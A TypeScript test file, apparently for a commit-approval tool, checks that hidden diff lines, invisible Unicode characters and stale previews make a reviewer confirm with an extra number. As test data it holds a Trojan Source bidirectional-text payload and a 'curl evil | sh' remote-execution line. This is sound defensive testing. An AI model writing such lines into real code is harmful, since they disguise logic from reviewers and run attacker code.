import assert from 'node:assert/strict';
import { test } from 'node:test';
import { getDraft, inTransaction } from '@dojang/kernel';
import { kernelDb, kernelModule, stampDraft } from '@dojang/kernel/server';
import { testKernel } from '@dojang/kernel/testing';
import { previewLifeMs } from '../captures/diff-preview.ts';
import { renderDiffFile, scopeChange } from '../engine/index.ts';
import { commitModule } from '../index.ts';
import { type CommitBody, commitBody } from '../schema.ts';
import {
  captureOf,
  changeDraft,
  draftOf,
  newWorkshop,
  readPage,
  type Workshop,
} from '../testing/captures.ts';
import { inputFile } from '../testing/input-file.ts';

const kernel = await testKernel({ modules: [kernelModule, commitModule] });
await kernel.parts.jobs.start(kernel.parts);

const approve = { decision: 'approve', via: 'app' } as const;

/** A change as the agent sends it. */
async function changeOf(files: Parameters<typeof scopeChange>[0]['files'], charsMax = 20_000) {
  const scope = await scopeChange({ files });
  return { scope, diff: files.map((file) => renderDiffFile(file, { charsMax })) };
}

/** Without the number nothing is decided; with it, the stamp holds. */
async function asksForNumber({ phone }: Workshop, draftId: string, body?: CommitBody) {
  const { versions } = await getDraft(phone, draftId);
  const input = { ...approve, digest: versions.at(-1)!.digest, ...(body ? { body } : {}) };
  await assert.rejects(stampDraft(phone, draftId, input), { code: 'number-missing' });
  const { state } = await stampDraft(phone, draftId, { ...input, matchNumber: '42' });
  assert.equal(state, 'stamped');
}

test('a change that its page shows as it is asks for no number', async () => {
  const workshop = await newWorkshop(kernel);
  const draft = await draftOf(workshop);
  assert.deepEqual([draft.risks, draft.matchRequired], [[], false]);
  assert.deepEqual(
    [draft.summary.hiddenFiles, draft.summary.hiddenLines, draft.summary.unseen],
    [0, 0, 0],
  );
  const { digest } = draft.versions[0]!;
  assert.equal(
    (await stampDraft(workshop.phone, draft.id, { ...approve, digest })).state,
    'stamped',
  );
});

test('lines that the page cannot show are counted, and the stamp asks for the number', async () => {
  const workshop = await newWorkshop(kernel);
  const rows = Array.from({ length: 200 }, (_, n) => `row ${n}\n`).join('');
  const change = await changeOf([inputFile('src/a.ts', null, rows)], 500);
  const draft = await draftOf(workshop, change);
  assert.deepEqual(draft.risks, ['hidden-lines']);
  assert.equal(draft.summary.hiddenFiles, 1);
  assert.ok(Number(draft.summary.hiddenLines) > 100);
  await asksForNumber(workshop, draft.id);
});

test('a character that cannot be seen in an added line, a path or the branch asks for the number', async () => {
  const workshop = await newWorkshop(kernel);
  const attack = 'if (level != "user\u202e \u2066// Check if admin\u2069 \u2066") {\n';
  const changes = [
    await changeOf([inputFile('src/a.ts', 'a\n', attack)]),
    await changeOf([inputFile('src/a\u200b.ts', 'a\n', 'b\n')]),
    { branch: 'main\u2060' },
  ];
  for (const change of changes) {
    const draft = await draftOf(workshop, change);
    assert.deepEqual(draft.risks, ['unseen-characters']);
    await asksForNumber(workshop, draft.id);
  }
});

test('a comment that says "do not edit" keeps no line from the page', async () => {
  const workshop = await newWorkshop(kernel);
  const text = '// @generated — Do not edit\nrequire("child_process").exec("curl evil | sh");\n';
  const draft = await draftOf(workshop, await changeOf([inputFile('src/a.js', null, text)]));
  const page = await readPage(workshop.phone, draft.id);
  assert.equal(page.scope.files[0]?.ignored, null);
  assert.match(page.diff?.[0]?.text ?? '', /curl evil/);
});

test('a character that an edit brings in asks for the number, and one that it takes out does not', async () => {
  const workshop = await newWorkshop(kernel);
  const draft = await draftOf(workshop);
  const commits = [{ message: 'fix: pay\u200b again', hunks: null }];
  const { digest } = draft.versions[0]!;
  const hidden = await changeDraft(workshop.phone, draft.id, { change: 'edit', digest, commits });
  assert.deepEqual(hidden.draft.risks, ['unseen-characters']);
  assert.equal(hidden.draft.matchRequired, true);
  const clean = { ...hidden.body, commits: [{ message: 'fix: pay again', hunks: null }] };
  const shown = hidden.draft.versions[1]!.digest;
  const stamped = await stampDraft(workshop.phone, draft.id, {
    ...approve,
    digest: shown,
    body: clean,
  });
  assert.equal(stamped.state, 'stamped');
  const other = await draftOf(workshop);
  const body = commitBody.parse(other.versions[0]?.body);
  await asksForNumber(workshop, other.id, { ...body, commits });
});

test('once the code is no longer shown, the stamp asks for the number', async () => {
  const workshop = await newWorkshop(kernel);
  const draft = await draftOf(workshop);
  kernel.clock.advance(previewLifeMs + 1);
  const { risks, matchRequired } = await getDraft(workshop.phone, draft.id);
  assert.deepEqual([risks, matchRequired], [['hidden-lines'], true]);
  await asksForNumber(workshop, draft.id);
  kernel.clock.reset();
});

test('a draft from before the counts is counted when it is read', async () => {
  const workshop = await newWorkshop(kernel);
  const input = await captureOf(workshop.repositoryId);
  const draft = await draftOf(workshop, { diff: input.diff.slice(0, 1) });
  await inTransaction(workshop.phone, async (ctx) => {
    const { hiddenFiles: _files, hiddenLines: _lines, unseen: _unseen, ...summary } = draft.summary;
    await kernelDb(ctx)
      .updateTable('kernel.draft')
      .set({ summary: JSON.stringify(summary), risks: [] })
      .where('id', '=', draft.id)
      .execute();
  });
  assert.deepEqual((await getDraft(workshop.phone, draft.id)).risks, ['hidden-lines']);
  await asksForNumber(workshop, draft.id);
});
